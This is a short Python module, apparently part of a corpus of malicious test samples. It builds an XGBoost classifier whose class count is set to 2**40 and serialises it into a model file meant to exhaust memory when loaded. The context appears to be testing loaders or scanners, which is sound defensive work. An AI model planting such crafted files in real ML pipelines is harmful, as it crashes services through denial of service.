"""A classifier of xgboost has more classes than there is memory for their numbers."""

from __future__ import annotations

from typing import Any

from malicious_samples.boosters import xgboost
from malicious_samples.native_state import dumped


def model() -> Any:
    model = xgboost("XGBClassifier")
    model.n_classes_ = 2**40
    return model


def build(canary: str) -> bytes:
    del canary
    return dumped(model())
